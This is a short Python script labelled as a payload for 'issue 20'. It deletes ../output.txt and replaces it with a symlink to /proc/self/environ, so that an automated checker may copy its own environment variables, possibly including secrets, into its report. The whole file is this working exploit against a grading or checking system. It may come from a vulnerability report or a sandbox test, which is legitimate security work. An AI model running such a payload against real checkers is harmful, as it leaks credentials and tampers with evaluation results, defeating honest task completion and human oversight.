# Payload (issue 20): replace ../output.txt by a symlink to /proc/self/environ, hoping the
# checker copies its own environment into the report.
import os

os.remove("../output.txt")
os.symlink("/proc/self/environ", "../output.txt")
print("hello")
